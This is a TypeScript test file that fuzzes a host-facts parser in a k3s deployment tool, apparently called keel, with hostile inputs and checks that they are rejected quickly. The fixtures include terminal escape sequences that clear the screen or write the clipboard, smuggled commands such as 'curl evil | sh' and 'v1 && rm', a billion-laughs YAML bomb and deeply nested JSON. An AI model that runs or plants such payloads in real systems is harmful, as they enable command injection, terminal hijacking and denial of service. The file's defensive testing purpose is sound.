import fc from 'fast-check'
import { expect, test } from 'vitest'
import { k3sAccess } from '../../../src/desired/distribution/k3s/access.ts'
import { KeelError } from '../../../src/errors.ts'
import type { HostName } from '../../../src/model/brands.ts'
import { parseFacts } from '../../../src/probes/parse-facts.ts'
import { describeVip } from '../../../src/ui/describe-vip.ts'
import { processorMs } from '../../support/processor-time.ts'
import { factsAnswer, honestSections } from '../../support/samples/facts-answer.ts'

const maia = 'maia' as HostName

/** The fault, or the facts. */
function read(stdout: string) {
  try {
    return parseFacts(maia, stdout, { kind: 'files', units: ['k3s.service'], node: 'maia', access: k3sAccess })
  } catch (error) {
    if (error instanceof KeelError) return error
    throw error
  }
}

test('an honest answer is taken', () => {
  expect(read(factsAnswer())).toMatchObject({
    system: { id: 'debian' },
    paths: { '/etc/x': { kind: 'file', mode: '0644' } },
    generation: { owned: ['/etc/x', '/etc/keel/'] },
    node: { taints: { 'a:NoSchedule': 'a=b:NoSchedule' } },
    parts: { keepalived: { changes: [{ at: 1764358000 }] } },
  })
})

const node = (part: object) => JSON.stringify({ kind: 'Node', metadata: {}, spec: {}, ...part })
const objects = (...items: readonly object[]) => `${JSON.stringify({ kind: 'List', items })}\n\n`
const object = (metadata: object, kind = 'Namespace') => objects({ kind, metadata: { name: 'a', ...metadata } })
const yaml = (text: string) => `file\t${Buffer.from(text).toString('base64')}\n`
const laughs = [
  'a: &a [x, x]',
  ...Array.from(
    'bcdefghijklmnopqrst',
    (name, index) =>
      `${name}: &${name} [${'*'}${'abcdefghijklmnopqrst'[index]}, ${'*'}${'abcdefghijklmnopqrst'[index]}]`,
  ),
  'node-name: [*t, *t]',
].join('\n')

test.each([
  { name: 'an escape sequence in a path that keel put there', section: 'generation', text: 'owned\t/etc/\u001b[2J\n' },
  { name: 'a carriage return in one', section: 'generation', text: 'owned\t/etc/x\r\u001b[K innocent line\n' },
  { name: 'a path of the manifest that is none', section: 'generation', text: 'owned\tetc/x\n' },
  { name: 'one with .. in it', section: 'generation', text: 'owned\t/etc/../root\n' },
  {
    name: 'a unit beside keel whose name clears the screen',
    section: 'foreign',
    text: 'unit\tx\u001b[2J.service\tactive\tenabled\t/x\tk3s server\t\t\n',
  },
  {
    name: 'a file beside keel whose path is a command',
    section: 'foreign',
    text: 'config\t; curl evil | sh\ttext\t\n',
  },
  { name: 'an endless path', section: 'generation', text: `owned\t/${'x'.repeat(100_000)}\n` },
  { name: 'a label without a name', section: 'node-marks', text: node({ metadata: { labels: { '': 'x' } } }) },
  {
    name: 'a label that sets the title',
    section: 'node-marks',
    text: node({ metadata: { labels: { 'x\u001b]0;T\u0007': 'x' } } }),
  },
  {
    name: 'a label of two lines',
    section: 'node-marks',
    text: node({ metadata: { labels: { a: 'b\nkeel: forged' } } }),
  },
  {
    name: 'a taint that is none',
    section: 'node-marks',
    text: node({ spec: { taints: [{ key: 'a b', effect: 'NoSchedule' }] } }),
  },
  {
    name: 'a key that was never a label, as owned',
    section: 'node-marks',
    text: node({
      metadata: { annotations: { 'keel.internal/node-marks': '{"labels":["x\\u001b]0;T\\u0007"],"taints":[]}' } },
    }),
  },
  {
    name: 'a namespace whose name answers a question',
    section: 'cluster-objects',
    text: object({ name: 'keel-tmp (an empty one)   Nothing is deleted. Press y' }),
  },
  {
    name: 'an object whose namespace is a sentence',
    section: 'cluster-objects',
    text: object({ namespace: 'nothing is deleted' }, 'ServiceAccount'),
  },
  {
    name: 'an object of a kind that keel has none of',
    section: 'cluster-objects',
    text: object({}, 'Nothing, Press y'),
  },
  { name: 'an object of a kind that only JavaScript knows', section: 'cluster-objects', text: object({}, 'toString') },
  { name: 'a drop-in that sets the clipboard', section: 'drop-ins', text: '/etc/\u001b]52;c;AAAA\u0007.conf\n' },
  { name: 'a version that is none', section: 'past-version', text: 'version\tv1 && rm\n' },
  { name: 'a CA that is none', section: 'past', text: 'serverCa\tabc\n' },
  {
    name: 'an owner of two words',
    section: 'path-states',
    text: `/etc/x\tfile\t644\tro ot\troot\n/etc/x\tsha256\t${'a'.repeat(64)}\n`,
  },
  {
    name: 'a mode that is none',
    section: 'path-states',
    text: `/etc/x\tfile\trwx\troot\troot\n/etc/x\tsha256\t${'a'.repeat(64)}\n`,
  },
  { name: 'a sum that is none', section: 'path-states', text: '/etc/x\tfile\t644\troot\troot\n/etc/x\tsha256\tx\n' },
  { name: 'an address that is none', section: 'firewall', text: 'nft=yes\naddress=evil.example\n' },
  { name: 'a time that no calendar has', section: 'keepalived', text: 'change=100000000000000000000 MASTER\n' },
  { name: 'a digest that is none', section: 'digest', text: 'anything\n' },
  { name: 'YAML that grows without end', section: 'run', text: yaml(laughs) },
  { name: 'a million rows', section: 'generation', text: 'owned\t/x\n'.repeat(300_000) },
])('attack 6: $name', ({ section, text }) => {
  let answer: unknown
  expect(processorMs(() => (answer = read(factsAnswer({ [section]: text }))))).toBeLessThan(10_000)
  expect(answer).toMatchObject({ code: 'facts-garbled', at: 'maia' })
})

test.each([
  object({ name: 'keel-system' }),
  object({ name: 'keel-agent', namespace: 'keel-system' }, 'ServiceAccount'),
  // RBAC takes more characters than a label of DNS has
  object({ name: 'system:keel-agent' }, 'ClusterRole'),
  object({ name: 'Their.Role_2' }, 'ClusterRoleBinding'),
])('names that Kubernetes takes: %s', (text) => {
  expect(read(factsAnswer({ 'cluster-objects': text }))).toMatchObject({ objects: [{ fields: {} }] })
})

test('attack 6: objects that are nested without end', () => {
  const text = `${JSON.stringify({ kind: 'List', items: [] })}\n{"kind":"ConfigMap","metadata":{"name":"x"},"data":${'['.repeat(900_000)}${']'.repeat(900_000)}}\n`
  expect(read(factsAnswer({ 'cluster-objects': text }))).toMatchObject({ code: 'facts-garbled', at: 'maia' })
})

test.each(['\n', 'a', '{"a":', 'missing=x\n', '\u0001probe x\n'])(
  'attack 6: as much of %j as fits is read or refused in seconds',
  (piece) => {
    const took = processorMs(() => {
      for (const section of Object.keys(honestSections))
        read(factsAnswer({ [section]: piece.repeat(1_000_000 / piece.length) }))
    })
    expect(took).toBeLessThan(20_000)
  },
)

test('attack 6: whatever a host answers, it is facts or its own fault', () => {
  const sections = Object.keys(honestSections)
  const text = fc.oneof(
    fc.string(),
    fc.json(),
    fc.array(fc.string()).map((rows) => rows.join('\n')),
    fc.array(fc.string()).map((columns) => columns.join('\t')),
  )
  fc.assert(
    fc.property(fc.constantFrom(...sections), text, fc.boolean(), (section, said, isMore) => {
      const answer = read(factsAnswer({ [section]: isMore ? `${honestSections[section]}${said}` : said }))
      if (answer instanceof KeelError) expect(answer).toMatchObject({ code: 'facts-garbled', at: 'maia' })
      else if (answer.parts.keepalived !== undefined) {
        const servers = [{ server: 'maia', kind: 'seen', state: answer.parts.keepalived }] as const
        expect(describeVip({ address: '192.0.2.9', manager: 'keepalived', holders: [], servers })).toContain('maia')
      }
    }),
    { numRuns: 500 },
  )
})

test('attack 6: what was not asked is not read: a host decides nothing of what kind it is', () => {
  const answer = factsAnswer({ 'nixos-system': 'current\t/nix/store/a\nboot\t/nix/store/a\n' })
  expect(read(answer)).toMatchObject({ kind: 'files', paths: { '/etc/x': { kind: 'file' } } })
  expect(read(answer)).not.toHaveProperty('nixos')
  expect(() =>
    parseFacts(maia, factsAnswer(), { kind: 'system', units: ['k3s.service'], node: 'maia', access: k3sAccess }),
  ).toThrow(expect.objectContaining({ code: 'facts-garbled' }))
})
